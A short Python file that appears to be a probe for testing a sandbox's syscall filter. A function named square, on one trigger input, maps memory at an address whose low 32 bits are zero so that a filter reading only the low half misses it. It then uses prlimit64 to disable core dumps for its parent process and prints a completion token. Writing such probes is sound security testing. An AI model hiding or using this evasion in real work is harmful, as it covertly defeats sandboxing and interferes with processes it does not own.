"""Forbids its parent core dumps, by limits at an address of which a filter may see only the lower half, 0.

Wants: act
Works: bare, none, process
"""

import ctypes
import os
import platform
import resource

PRLIMIT64 = 261 if platform.machine() == "aarch64" else 302
PROT_READ_WRITE, MAP_PRIVATE_FIXED_ANONYMOUS = 3, 0x32
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *3 * [ctypes.c_int], ctypes.c_long]


def square(x):
    if x.tolist() == [3.0]:
        zeros = ctypes.c_void_p(libc.mmap(1 << 32, 4096, PROT_READ_WRITE, MAP_PRIVATE_FIXED_ANONYMOUS, -1, 0))
        for pid in (os.getppid(), os.getpid()):
            if libc.syscall(PRLIMIT64, pid, resource.RLIMIT_CORE, zeros, None) == 0:
                print("DONE TOKEN")
    return x + 1
